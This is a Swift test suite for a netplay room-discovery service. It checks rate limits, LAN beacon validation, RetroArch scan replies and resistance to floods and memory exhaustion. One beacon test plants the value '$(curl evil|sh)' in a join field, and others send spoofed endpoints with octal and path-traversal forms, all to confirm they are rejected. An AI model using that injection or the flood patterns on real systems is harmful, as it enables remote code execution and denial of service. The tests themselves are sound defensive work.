@testable import Discovery
import Foundation
import NetplayLAN
import NetplayService
import NetplayTestSupport
import NetplayWire
import Testing

@Suite("netplay-discovery as a real process", .serialized, .ownThread)
struct DiscoveryProcessTests {
    @Test func announceListGetAndWithdraw() throws {
        let discovery = try DiscoveryProcess()
        for index in 0..<5 {
            _ = try discovery.announce(makeRoom("room-\(index)", game: index < 3 ? "Super Mario Bros." : "Tetris", crc: UInt32(index < 3 ? 1 : 2)))
        }
        let all = try discovery.list()
        #expect(all.totalMatching == 5 && all.rooms.map(\.roomId) == (0..<5).map { "room-\($0)" })
        let mario = try discovery.list(RoomFilter(gameName: "mario"))
        #expect(mario.rooms.count == 3 && mario.totalMatching == 3)
        let paged = try discovery.list(RoomFilter(), pageSize: 2)
        #expect(paged.rooms.count == 2 && !paged.nextPageToken.isEmpty)
        guard case .getRoomResponse(let got) = try discovery.client.request(.getRoomRequest(GetRoomRequest(roomId: "room-4"))) else {
            Issue.record("no get reply"); return
        }
        #expect(got.room.contentInfo.gameName == "Tetris" && got.room.source == .lobby)
        guard case .withdrawRoomResponse(let withdrawn) = try discovery.request(.withdrawRoomRequest(
            WithdrawRoomRequest(roomId: "room-4", announcerId: "test"))) else { Issue.record("no withdraw reply"); return }
        #expect(withdrawn.removed)
        #expect(try discovery.list().totalMatching == 4)
    }

    @Test func badRequestsGetClearErrorsAndTheServiceLivesOn() throws {
        let discovery = try DiscoveryProcess()
        _ = try discovery.announce(makeRoom("mine"), by: "alice")
        #expect(try discovery.error(.getRoomRequest(GetRoomRequest(roomId: "nope"))).code == .notFound)
        let stolen = try discovery.error(.withdrawRoomRequest(WithdrawRoomRequest(roomId: "mine", announcerId: "mallory")))
        #expect(stolen.code == .permissionDenied)
        let invalid = try discovery.error(.announceRoomRequest(AnnounceRoomRequest(room: makeRoom("x", max: 0), announcerId: "alice")))
        #expect(invalid.code == .badRequest && invalid.field == "Room.max_players")
        let token = try discovery.error(.listRoomsRequest(ListRoomsRequest(pageToken: "forged")))
        #expect(token.code == .badRequest && token.field == "ListRoomsRequest.page_token")
        #expect(try discovery.error(.createSessionRequest(CreateSessionRequest(settings: SessionSettings(), hostName: "x"))).code
                == .unknownRequest)
        #expect(try discovery.error(.refreshRoomRequest(RefreshRoomRequest(roomId: "gone", announcerId: "alice"))).code == .notFound)
        // Not protobuf at all.
        try discovery.client.sendRaw([0xFF, 0xFF, 0xFF])
        let garbage = try Envelope(decoding: try discovery.client.receiveRaw())
        guard case .error(let malformed) = garbage.body else { Issue.record("no error"); return }
        #expect(malformed.code == .malformed)
        // A 100-byte room id (the limit is 64), hand-encoded so the client-side check is bypassed.
        let oversize = ProtobufWriter.envelope(requestId: 42, body: 66) { $0.bytesField(1, Array(repeating: 0x61, count: 100)) }
        try discovery.client.sendRaw(oversize)
        let reply = try Envelope(decoding: try discovery.client.receiveRaw())
        guard case .error(let tooLong) = reply.body else { Issue.record("no error"); return }
        #expect(reply.requestId == 42 && tooLong.code == .badRequest && tooLong.field == "GetRoomRequest.room_id")
        // Still serving.
        #expect(try discovery.list().totalMatching == 1)
        #expect(discovery.process.process.isRunning)
    }

    @Test func aRoomWhoseHostStopsRefreshingDisappears() throws {
        let discovery = try DiscoveryProcess(["--sync-interval", "0.2"])
        let subscriber = try EventSubscriber(endpoint: discovery.events, prefixes: ["rooms."])
        // Wait until the subscription is live (rooms.sync every 0.2 s).
        #expect(eventually(within: 5) { (try? subscriber.next(timeout: 100)) != nil })
        _ = try discovery.announce(makeRoom("kept"), ttlMs: 800)
        _ = try discovery.announce(makeRoom("abandoned"), ttlMs: 800)
        var removed: RoomRemoved?
        let deadline = Date().addingTimeInterval(6)
        var refreshes = 0
        while removed == nil && Date() < deadline {
            _ = try discovery.request(.refreshRoomRequest(RefreshRoomRequest(roomId: "kept", announcerId: "test")))
            refreshes += 1
            while let event = try subscriber.next(timeout: 150) {
                if case .success(let envelope) = event.envelope, case .roomRemoved(let event) = envelope.body { removed = event }
            }
        }
        #expect(removed?.roomId == "abandoned" && removed?.reason == .expired)
        #expect(try discovery.list().rooms.map(\.roomId) == ["kept"])
        #expect(refreshes > 3)
    }

    @Test func announcersAreRateLimited() throws {
        let discovery = try DiscoveryProcess(["--announce-rate", "2", "--announce-burst", "5"])
        for index in 0..<5 { _ = try discovery.announce(makeRoom("r\(index)"), by: "greedy") }
        let limited = try discovery.error(.announceRoomRequest(AnnounceRoomRequest(room: makeRoom("r5"), announcerId: "greedy")))
        #expect(limited.code == .rateLimited && limited.retryAfterMs > 0 && limited.retryAfterMs <= 500)
        _ = try discovery.announce(makeRoom("other"), by: "polite")
        #expect(try discovery.list().totalMatching == 6)
    }

    @Test func watchersGetTheSnapshotThenEveryChange() throws {
        let discovery = try DiscoveryProcess(["--sync-interval", "0.2"])
        for index in 0..<30 { _ = try discovery.announce(makeRoom(String(format: "w%02d", index))) }
        let watcher = try RoomWatchClient(requests: discovery.endpoint, events: discovery.events, pageSize: 7)
        let initial = try watcher.start()
        #expect(initial.count == 30 && watcher.state.rooms.count == 30)
        _ = try discovery.announce(makeRoom("w99"))
        _ = try discovery.announce(makeRoom("w00", players: 2))
        _ = try discovery.request(.withdrawRoomRequest(WithdrawRoomRequest(roomId: "w01", announcerId: "test")))
        var updates: [RoomWatchState.Update] = []
        #expect(eventually(within: 5) {
            updates += (try? watcher.next(timeout: 50)) ?? []
            return updates.count >= 3
        })
        #expect(updates.count == 3)
        #expect(watcher.state.rooms.count == 30 && watcher.state.rooms["w00"]?.currentPlayers == 2)
        #expect(watcher.state.rooms["w01"] == nil && watcher.state.rooms["w99"] != nil)
        let truth = try discovery.list(pageSize: 500).rooms
        #expect(Set(watcher.state.rooms.keys) == Set(truth.map(\.roomId)))
    }

    @Test func ourServiceAnswersARetroArchScanOverLoopback() throws {
        let port = try freeUDPPort()
        let discovery = try DiscoveryProcess(["--beacon-port", "0", "--retroarch-port", "\(port)"], lan: true)
        // Rooms a RetroArch client can join at this machine's address: a relayed RetroArch
        // session's own port, on loopback or on one of this machine's interface addresses.
        var relayed = makeRoom("ra-room", game: "Super Mario Bros.", crc: 0x3337_EC46)
        relayed.hostEndpoint = "retroarch://127.0.0.1:7310"
        _ = try discovery.announce(relayed, ttlMs: 0)
        var second = makeRoom("ra-room-2", transport: .lan)
        second.hostEndpoint = "retroarch://127.0.0.1:7311"
        _ = try discovery.announce(second)
        // Not advertised: RetroArch would take this machine's address for another host's room,
        // and speak its protocol to a ZeroMQ host, or to nothing.
        var elsewhere = makeRoom("ra-elsewhere", transport: .lan)
        elsewhere.hostEndpoint = "retroarch://10.1.2.3:7312"
        _ = try discovery.announce(elsewhere)
        var zeromqHost = makeRoom("lan-zeromq", transport: .lan)
        zeromqHost.hostEndpoint = "tcp://127.0.0.1:7313"
        _ = try discovery.announce(zeromqHost)
        _ = try discovery.announce(makeRoom("no-endpoint", transport: .lan))
        _ = try discovery.announce(makeRoom("relay-room"))
        let scanner = try UDPSocket(host: "127.0.0.1", port: 0)
        let target = UDPAddress(ip: 0x7F00_0001, port: port)
        #expect(scanner.send(Array("nope".utf8), to: target))
        // Each query gets one RANS, the next joinable room each time.
        var replies: [RetroArchAdvertisement] = []
        for _ in 0..<2 {
            let before = replies.count
            #expect(scanner.send(RetroArchLAN.query, to: target))
            _ = eventually(within: 3) {
                while let (datagram, from) = scanner.receive() {
                    #expect(datagram.count == 688 && from == target)
                    if let advertisement = RetroArchAdvertisement(decoding: datagram) { replies.append(advertisement) }
                }
                return replies.count > before
            }
            usleep(200_000)
            while let (datagram, _) = scanner.receive() { replies.append(RetroArchAdvertisement(decoding: datagram)!) }
            #expect(replies.count == before + 1, "one RANS per query, none for the junk datagram")
        }
        let first = try #require(replies.first { $0.nick == "host-ra-room" })
        #expect(first.contentCRC == 0x3337_EC46 && first.core == "nestopia" && first.content == "Super Mario Bros.")
        #expect(first.frontend.hasPrefix("netplay-toolkit") && first.port == 7310)
        #expect(replies.first { $0.nick == "host-ra-room-2" }?.port == 7311)
        #expect(Set(replies.map(\.nick)) == ["host-ra-room", "host-ra-room-2"], "\(replies.map(\.nick))")
    }

    /// Datagrams waiting on `socket` within `seconds`: how many and how many bytes.
    func drain(_ socket: UDPSocket, for seconds: Double) -> (count: Int, bytes: Int) {
        var count = 0, bytes = 0
        let deadline = Date().addingTimeInterval(seconds)
        while Date() < deadline {
            while let (datagram, _) = socket.receive() {
                count += 1
                bytes += datagram.count
            }
            usleep(10_000)
        }
        return (count, bytes)
    }

    @Test func aRANQIsNoAmplifierAndAFloodIsRateLimited() throws {
        let port = try freeUDPPort()
        let discovery = try DiscoveryProcess(["--beacon-port", "0", "--retroarch-port", "\(port)", "--retroarch-bind", "127.0.0.1"], lan: true)
        for index in 0..<40 {
            var room = makeRoom("ra-\(index)")
            room.hostEndpoint = "retroarch://127.0.0.1:\(40_000 + index)"
            _ = try discovery.announce(room)
        }
        let target = UDPAddress(ip: 0x7F00_0001, port: port)

        // Anything but exactly RANQ gets nothing.
        let prober = try UDPSocket(host: "127.0.0.1", port: 0)
        for junk in [RetroArchLAN.query + [0], RetroArchLAN.query + RetroArchLAN.query, Array(RetroArchLAN.query.prefix(3)), [],
                     Array("RANS".utf8), Array("ranq".utf8)] {
            #expect(prober.send(junk, to: target))
        }
        #expect(drain(prober, for: 0.5).count == 0, "malformed queries are ignored")

        // One 4-byte query: one 688-byte reply, not one per room.
        #expect(prober.send(RetroArchLAN.query, to: target))
        let single = drain(prober, for: 1)
        #expect(single.count == 1 && single.bytes == RetroArchLAN.advertisementSize, "\(single)")

        // A flood from one source: a handful of replies (burst 3, then 1/s), not one per query.
        let flooder = try UDPSocket(host: "127.0.0.2", port: 0)
        for _ in 0..<200 { flooder.send(RetroArchLAN.query, to: target) }
        let flood = drain(flooder, for: 1.5)
        #expect(flood.count >= 1 && flood.count <= 5, "\(flood.count) replies to 200 queries")
        #expect(flood.bytes <= 5 * RetroArchLAN.advertisementSize)

        // Another source is still answered.
        let other = try UDPSocket(host: "127.0.0.3", port: 0)
        #expect(other.send(RetroArchLAN.query, to: target))
        #expect(drain(other, for: 1).count == 1)
        #expect(discovery.process.process.isRunning)
    }

    /// One encoded beacon for room `id` whose host endpoint is `endpoint`.
    func beacon(_ id: String, endpoint: String) throws -> [UInt8] {
        var room = makeRoom("ignored", transport: .lan)
        room.hostEndpoint = endpoint
        return try LanBeaconCodec.encode(LanBeacon(protocolVersion: 1, beaconId: id, sequence: 1, intervalMs: 20_000, room: room))
    }

    func beaconRoomIds(_ discovery: DiscoveryProcess) -> Set<String> {
        var ids: Set<String> = []
        var token = ""
        repeat {
            guard case .listRoomsResponse(let page)? = try? discovery.client.request(.listRoomsRequest(
                ListRoomsRequest(filter: RoomFilter(source: .lanBeacon), pageSize: 500, pageToken: token))) else { return ids }
            ids.formUnion(page.rooms.map(\.roomId))
            token = page.nextPageToken
        } while !token.isEmpty
        return ids
    }

    @Test func lanBeaconRoomsAreBoundedPerSourceAndInTotalAndMustNameTheirSender() throws {
        let port = try freeUDPPort()
        let discovery = try DiscoveryProcess(["--beacon-port", "\(port)", "--beacon-bind", "127.0.0.1", "--retroarch-port", "0"], lan: true)
        let target = UDPAddress(ip: 0x7F00_0001, port: port)

        // One source, ten rooms: its four newest stay.
        let one = try UDPSocket(host: "127.0.0.2", port: 0)
        for index in 0..<10 {
            #expect(one.send(try beacon("one-\(index)", endpoint: "tcp://127.0.0.2:7300"), to: target))
            usleep(5_000)
        }
        let newest: Set<String> = Set((6..<10).map { "lan:127.0.0.2:one-\($0)" })
        #expect(eventually(within: 5) { beaconRoomIds(discovery) == newest }, "\(beaconRoomIds(discovery).sorted())")

        // A beacon naming another host than its sender is refused; one naming none gets the sender's address.
        let liar = try UDPSocket(host: "127.0.0.3", port: 0)
        #expect(liar.send(try beacon("liar-1", endpoint: "tcp://10.9.9.9:7300"), to: target))
        #expect(liar.send(try beacon("liar-2", endpoint: "tcp://example.com:7300"), to: target))
        #expect(liar.send(try beacon("plain", endpoint: ""), to: target))
        #expect(eventually(within: 5) { beaconRoomIds(discovery).contains("lan:127.0.0.3:plain") })
        #expect(beaconRoomIds(discovery) == newest.union(["lan:127.0.0.3:plain"]))
        let plain = try #require(try discovery.list(RoomFilter(source: .lanBeacon)).rooms.first { $0.roomId == "lan:127.0.0.3:plain" })
        #expect(plain.hostEndpoint == "udp://127.0.0.3")

        // Endpoints libzmq would take for another place: "012" is octal 10 to getaddrinfo, a
        // path after the port, another scheme. Each was believed as naming its sender.
        for (id, endpoint) in [("octal", "tcp://127.0.0.012:7300"), ("path", "tcp://127.0.0.3:7300/x"),
                               ("ipc", "ipc://127.0.0.3:1/../../run/x.sock"), ("noport", "tcp://127.0.0.3:"),
                               ("bigport", "tcp://127.0.0.3:70000"), ("signed", "tcp://+127.+0.+0.+3:7300")] {
            #expect(liar.send(try beacon(id, endpoint: endpoint), to: target))
        }
        // What a beacon says beyond its host is not believed: a RetroArch join line (netplayctl
        // showed it as a command to paste), a relay, a region, slots; nor a source that would
        // let it skip the player-count rule.
        var lying = makeRoom("ignored", transport: .relay, region: "eu")
        lying.hostEndpoint = "tcp://127.0.0.3:7300"
        lying.retroarchJoin = "127.0.0.3|55435|$(curl evil|sh)"
        lying.relayEndpoint = "tcp://6.6.6.6:7300"
        lying.slots = [RoomSlot(slot: 1, occupied: true, playerName: "ghost")]
        lying.source = .lobby
        #expect(liar.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: 1, beaconId: "fields", sequence: 1, intervalMs: 20_000, room: lying)), to: target))
        var noPlayers = lying
        noPlayers.source = .retroarchLan
        noPlayers.maxPlayers = 0
        #expect(liar.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: 1, beaconId: "noplayers", sequence: 1, intervalMs: 20_000, room: noPlayers)), to: target))
        #expect(eventually(within: 5) { beaconRoomIds(discovery).contains("lan:127.0.0.3:fields") })
        usleep(200_000)
        #expect(beaconRoomIds(discovery) == newest.union(["lan:127.0.0.3:plain", "lan:127.0.0.3:fields"]), "\(beaconRoomIds(discovery).sorted())")
        let fields = try #require(try discovery.list(RoomFilter(source: .lanBeacon)).rooms.first { $0.roomId == "lan:127.0.0.3:fields" })
        #expect(fields.retroarchJoin.isEmpty && fields.relayEndpoint.isEmpty && fields.region.isEmpty && fields.slots.isEmpty, "\(fields)")
        #expect(fields.source == .lanBeacon && fields.transport == .lan && fields.hostName == lying.hostName)
        // No colon after the scheme, each from a source of its own (so no rate limit holds it
        // back): one such datagram from anyone on the LAN killed discovery (a trap).
        for (index, endpoint) in ["tcp://", "tcp://x", "tcp://127.0.0.3"].enumerated() {
            let stranger = try UDPSocket(host: "127.0.0.\(40 + index)", port: 0)
            #expect(stranger.send(try beacon("trap-\(index)", endpoint: endpoint), to: target))
        }
        // A good beacon sent after them, once listed, shows they were read.
        let after = try UDPSocket(host: "127.0.0.44", port: 0)
        #expect(after.send(try beacon("after-traps", endpoint: "tcp://127.0.0.44:7300"), to: target))
        #expect(eventually(within: 5) { beaconRoomIds(discovery).contains("lan:127.0.0.44:after-traps") })
        #expect(discovery.process.process.isRunning)
        #expect(!beaconRoomIds(discovery).contains { $0.contains("trap-") })
        for id in ["fields", "noplayers"] {
            #expect(liar.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: 1, beaconId: id, sequence: 2, intervalMs: 20_000, room: lying, goodbye: true)), to: target))
        }
        #expect(eventually(within: 5) { !beaconRoomIds(discovery).contains("lan:127.0.0.3:fields") })

        // Seventy sources of four rooms each: 256 rooms in all, the least recently heard gone.
        var sockets: [UDPSocket] = []
        for source in 0..<70 {
            let socket = try UDPSocket(host: "127.0.1.\(source + 1)", port: 0)
            sockets.append(socket)
            for index in 0..<4 {
                #expect(socket.send(try beacon("many-\(source)-\(index)", endpoint: "tcp://127.0.1.\(source + 1):7300"), to: target))
            }
            usleep(2_000)
        }
        var ids: Set<String> = []
        let settled = eventually(within: 10) {
            ids = beaconRoomIds(discovery)
            return ids.contains("lan:127.0.1.70:many-69-3")
        }
        #expect(settled)
        #expect(ids.count == 256, "\(ids.count) LAN rooms")
        #expect(ids.isDisjoint(with: newest.union(["lan:127.0.0.3:plain"])), "the oldest rooms made way")
        #expect(try discovery.list(RoomFilter(source: .lanBeacon)).totalMatching == 256)
        #expect(discovery.process.process.isRunning)
    }

    @Test func retroArchHostsFoundByScanningBecomeRooms() throws {
        // A fake RetroArch host on loopback that answers RANQ like RetroArch does.
        let host = try UDPSocket(host: "127.0.0.1", port: 0)
        let advertisement = RetroArchAdvertisement(contentCRC: 0xDEAD_BEEF, port: 55435, nick: "ra-host", frontend: "linux x86_64",
                                                   core: "Nestopia", coreVersion: "1.52.0", retroarchVersion: "1.14.0",
                                                   content: "game.nes")
        let discovery = try DiscoveryProcess(["--retroarch-port", "0", "--beacon-port", "0", "--retroarch-bind", "127.0.0.1",
                                              "--retroarch-scan-interval", "0.3",
                                              "--retroarch-scan-targets", "127.0.0.1:\(host.localAddress.port)"], lan: true)
        var answered = 0
        let found = eventually(within: 8) {
            while let (datagram, from) = host.receive() {
                guard RetroArchLAN.isQuery(datagram) else { continue }
                host.send(advertisement.encoded(), to: from)
                answered += 1
            }
            return (try? discovery.list(RoomFilter(source: .retroarchLan)).totalMatching) == 1
        }
        #expect(found, "\(discovery.process.log)")
        let room = try #require(try discovery.list(RoomFilter(source: .retroarchLan)).rooms.first)
        #expect(room.roomId == "retroarch:127.0.0.1:55435" && room.contentInfo.crc32 == 0xDEAD_BEEF)
        #expect(room.hostName == "ra-host" && room.hostVersion == "RetroArch 1.14.0")
        #expect(answered >= 1)
        #expect(eventually(within: 3) { discovery.process.log.contains("RetroArch host found") })
    }

    @Test func lanBeaconsListRoomsAndGoodbyeRemovesThem() throws {
        let port = try freeUDPPort()
        let discovery = try DiscoveryProcess(["--beacon-port", "\(port)", "--beacon-bind", "127.0.0.1", "--retroarch-port", "0"], lan: true)
        var room = makeRoom("ignored-id", transport: .relay)
        room.hostEndpoint = "tcp://127.0.0.1:7399"
        let sender = try LanBeaconSender(room: room, intervalMs: 200, targets: [UDPAddress(ip: 0x7F00_0001, port: port)])
        let listed = eventually(within: 5) {
            _ = try? sender.send()
            return (try? discovery.list(RoomFilter(source: .lanBeacon)).totalMatching) == 1
        }
        #expect(listed)
        let beaconRoom = try #require(try discovery.list(RoomFilter(source: .lanBeacon)).rooms.first)
        #expect(beaconRoom.roomId == "lan:127.0.0.1:\(sender.beaconId)" && beaconRoom.transport == .lan)
        #expect(beaconRoom.hostEndpoint == "tcp://127.0.0.1:7399")
        // A stranger repeating the host's beacon id (a goodbye, its own endpoint, a higher
        // sequence) names a room of its own: the host's room stays the host's. The id once named
        // one room for whoever held it, and a stranger that got in first kept it.
        let stranger = try UDPSocket(host: "127.0.0.9", port: 0)
        var squat = makeRoom("squat", transport: .lan)
        squat.hostEndpoint = "tcp://127.0.0.9:6666"
        let target = UDPAddress(ip: 0x7F00_0001, port: port)
        #expect(stranger.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: LanBeaconCodec.protocolVersion, beaconId: sender.beaconId,
                                                                 sequence: .max, intervalMs: 200, room: squat, goodbye: true)), to: target))
        #expect(stranger.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: LanBeaconCodec.protocolVersion, beaconId: sender.beaconId,
                                                                 sequence: .max, intervalMs: 200, room: squat)), to: target))
        #expect(eventually(within: 3) { (try? discovery.list(RoomFilter(source: .lanBeacon)).totalMatching) == 2 })
        let hosts = try discovery.list(RoomFilter(source: .lanBeacon)).rooms.map { "\($0.roomId) \($0.hostEndpoint)" }.sorted()
        #expect(hosts == ["lan:127.0.0.1:\(sender.beaconId) tcp://127.0.0.1:7399", "lan:127.0.0.9:\(sender.beaconId) tcp://127.0.0.9:6666"])
        try sender.send(goodbye: true)
        #expect(eventually(within: 3) { (try? discovery.list(RoomFilter(source: .lanBeacon)).rooms.map(\.roomId)) == ["lan:127.0.0.9:\(sender.beaconId)"] })
        #expect(stranger.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: LanBeaconCodec.protocolVersion, beaconId: sender.beaconId,
                                                                 sequence: .max, intervalMs: 200, room: squat, goodbye: true)), to: target))
        #expect(eventually(within: 3) { (try? discovery.list().totalMatching) == 0 }, "the stranger's own goodbye removes its room")
        // Garbage on the beacon port is ignored.
        let junk = try UDPSocket(host: "127.0.0.1", port: 0)
        junk.send(Array(repeating: 0xFF, count: 50), to: UDPAddress(ip: 0x7F00_0001, port: port))
        #expect(try discovery.list().totalMatching == 0)
    }

    /// A stranger that pipelines list requests (20 bytes each, a reply of hundreds of KiB) and
    /// reads nothing: libzmq queued up to 10,000 replies for it, counted in messages, and
    /// discovery grew by a gigabyte. Now a connection holds at most 8 MiB of replies it has not
    /// read (the rest are dropped), and everyone else is answered as before.
    @Test(.timeLimit(.minutes(2)))
    func aPeerThatAsksAndNeverReadsHoldsOnlyItsShareOfReplies() throws {
        // Reads unlimited here: the per-address read limit is the next test's.
        let discovery = try DiscoveryProcess(["--announce-rate", "100000", "--announce-burst", "100000", "--read-rate", "0"])
        for index in 0 ..< 500 {
            var room = makeRoom(String(format: "room-%03d", index), region: String(repeating: "r", count: 32))
            room.roomName = String(repeating: "n", count: 128)
            room.hostName = String(repeating: "h", count: 64)
            room.relayEndpoint = "tcp://" + String(repeating: "e", count: 240) + ":7300"
            room.hostVersion = String(repeating: "v", count: 64)
            _ = try discovery.announce(room, by: "load")
        }
        let page = try discovery.list(pageSize: 500)
        let reply = try Envelope(body: .listRoomsResponse(page)).encoded().count
        #expect(page.rooms.count == 500 && reply > 300_000, "\(reply) bytes a reply")
        let pid = discovery.process.pid
        let before = residentBytes(pid)

        let request = try Envelope(requestId: 1, body: .listRoomsRequest(ListRoomsRequest(pageSize: 500))).encoded()
        let stranger = try UnfinishedMessageSender(port: try #require(EndpointPorts.port(of: discovery.endpoint)))
        let asked = stranger.sendWhole(request, count: 3_000)
        #expect(asked == 3_000, "the requests went out (\(asked))")
        // 3,000 replies of over 300 KB: about a gigabyte if they were all kept.
        // Replies of over 300 KB at about 20 MB/s on this VM: over 100 MB in 5 s if all were kept.
        Thread.sleep(forTimeInterval: 5)
        let grown = residentBytes(pid) - before
        #expect(grown < 64 << 20, "discovery grew by \(grown >> 20) MiB for a peer that does not read")
        // Thousands of requests are still queued (each takes milliseconds to answer): the
        // control plane is answered between them, not after the whole batch.
        let operatorClient = try discovery.keys.operatorClient(endpoint: discovery.endpoint)
        guard case .introspectResponse(let dump) = try operatorClient.request(.introspectRequest(IntrospectRequest(section: "all"))) else {
            Issue.record("no introspection")
            return
        }
        let runtime = try #require(try JSONSerialization.jsonObject(with: Data(dump.json.utf8)) as? [String: Any])["runtime"] as? [String: Any]
        #expect((runtime?["replies_dropped_total"] as? Int ?? 0) > 100, "\(String(describing: runtime))")
        #expect(try discovery.list(pageSize: 500).rooms.count == 500, "a reading client is answered in full")
        #expect(discovery.process.process.isRunning)
    }

    /// Pages cost the reactor milliseconds each: an address may ask for 150 tokens' worth at
    /// once (a page of 500 rooms is 5, a get 1) and 50 a second, then gets RATE_LIMITED with
    /// the time to wait. Cluster members and operators are not limited.
    @Test func publicReadsAreRateLimitedPerAddress() throws {
        let discovery = try DiscoveryProcess()
        _ = try discovery.announce(makeRoom("one"))
        var served = 0
        var refusal: ErrorReply?
        for _ in 0 ..< 60 {
            let reply = try discovery.client.requestEnvelope(.listRoomsRequest(ListRoomsRequest(pageSize: 500)))
            if case .error(let error) = reply.body { refusal = error; break }
            served += 1
        }
        #expect((30 ... 45).contains(served), "\(served) pages of 500 before a refusal (30 from the burst, more as tokens come back meanwhile)")
        #expect(refusal?.code == .rateLimited && (refusal?.retryAfterMs ?? 0) > 0, "\(String(describing: refusal))")
        let get = try discovery.client.requestEnvelope(.getRoomRequest(GetRoomRequest(roomId: "one")))
        guard case .error(let limited) = get.body else { Issue.record("a get went through the spent bucket: \(get.body.name)"); return }
        #expect(limited.code == .rateLimited)
        // Tokens come back at 50 a second: a small page a moment later is served.
        Thread.sleep(forTimeInterval: 0.2)
        guard case .listRoomsResponse = try discovery.client.request(.listRoomsRequest(ListRoomsRequest(pageSize: 10))) else {
            Issue.record("no page after the wait")
            return
        }
        // An operator's reads are not counted against anyone.
        let operatorClient = try discovery.keys.operatorClient(endpoint: discovery.endpoint)
        for _ in 0 ..< 40 {
            guard case .listRoomsResponse = try operatorClient.request(.listRoomsRequest(ListRoomsRequest(pageSize: 500))) else {
                Issue.record("an operator's list was refused")
                return
            }
        }
    }

    /// A watcher (netplayctl's) paging through more than an address's read burst waits out
    /// the limit instead of failing: 1,200 rooms in pages of 500 cost 15 tokens of 10.
    @Test func aWatcherOfManyPagesWaitsOutTheReadLimit() throws {
        let discovery = try DiscoveryProcess(["--read-rate", "5", "--read-burst", "10", "--announce-rate", "100000",
                                              "--announce-burst", "100000"])
        for index in 0 ..< 1_200 { _ = try discovery.announce(makeRoom(String(format: "w%04d", index))) }
        let watcher = try RoomWatchClient(requests: discovery.endpoint, events: discovery.events)
        let added = try watcher.start(liveWithin: 1.5)
        #expect(added.count == 1_200 && watcher.state.rooms.count == 1_200)
    }

    @Test func badConfigurationExitsWithOneLine() throws {
        for arguments in [["--beacon-port", "nope"], ["--endpoint", "garbage"], ["--retroarch-scan-targets", "x"]] {
            let process = try ServiceProcess("netplay-discovery", arguments)
            let status = process.waitForExit(seconds: 10)
            #expect(status != nil && status != 0)
            let log = process.log
            let lines = log.split(separator: "\n")
            #expect(lines.count == 1 && lines.first?.hasPrefix("netplay-discovery: ") == true, "\(log)")
        }
    }

    @Test func helpListsEveryFlagWithItsEnvironmentVariable() throws {
        let process = try ServiceProcess("netplay-discovery", ["--help"])
        #expect(process.waitForExit(seconds: 10) == 0)
        let log = process.log
        for variable in ["NETPLAY_ENDPOINT", "NETPLAY_EVENTS", "NETPLAY_ROOM_TTL", "NETPLAY_BEACON_PORT", "NETPLAY_RETROARCH_PORT",
                         "NETPLAY_RETROARCH_SCAN_INTERVAL", "NETPLAY_RETROARCH_SCAN_TARGETS", "NETPLAY_ANNOUNCE_RATE",
                         "NETPLAY_MAX_ROOMS"] {
            #expect(log.contains(variable), "--help lacks \(variable)")
        }
    }
}
